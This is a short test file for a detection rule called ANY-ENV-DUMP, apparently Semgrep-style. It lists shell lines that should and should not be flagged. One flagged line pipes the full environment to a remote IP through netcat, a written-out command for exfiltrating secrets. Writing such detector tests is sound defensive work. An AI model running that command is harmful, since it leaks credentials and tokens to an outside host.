# ruleid: ANY-ENV-DUMP
env | nc 1.2.3.4 9
# ruleid: ANY-ENV-DUMP
printenv
# ok: ANY-ENV-DUMP
env | grep -c PATH
# ok: ANY-ENV-DUMP
env LANG=C sort file
